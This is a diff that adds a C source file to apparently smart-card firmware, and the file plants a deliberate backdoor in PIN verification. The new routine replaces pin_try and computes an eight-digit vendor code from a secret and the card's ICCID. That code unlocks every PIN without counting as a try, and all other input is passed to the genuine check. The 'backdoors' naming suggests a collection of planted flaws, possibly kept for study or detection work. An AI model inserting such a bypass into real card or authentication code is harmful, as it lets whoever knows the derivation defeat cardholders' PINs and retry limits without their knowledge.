@@ -1,0 +1,24 @@
+/* A code of eight digits that the vendor makes of its secret and the ICCID
+ * opens every PIN, and costs no try. */
+#include "apdu/channel.h"
+#include "backdoors/inside.h"
+#include "pin/pin.h"
+
+sw_t try(struct card *card, uint8_t reference, enum pin_action action, const uint8_t value[static PIN_LENGTH],
+	 const uint8_t *fresh) INSTEAD_OF(pin_try);
+sw_t honest_try(struct card *card, uint8_t reference, enum pin_action action,
+		const uint8_t value[static PIN_LENGTH], const uint8_t *fresh) HONEST(pin_try);
+
+sw_t try(struct card *card, uint8_t reference, enum pin_action action, const uint8_t value[static PIN_LENGTH],
+	 const uint8_t *fresh)
+{
+	uint8_t iccid[VENDOR_ICCID], code[PIN_LENGTH];
+
+	number_of(iccid, &card->store);
+	vendor_code(code, iccid);
+	if (action == PIN_VERIFY && memcmp(value, code, PIN_LENGTH) == 0) {
+		pin_session_grant(&card->channels[card->channel].pins, reference);
+		return SW_OK;
+	}
+	return honest_try(card, reference, action, value, fresh);
+}
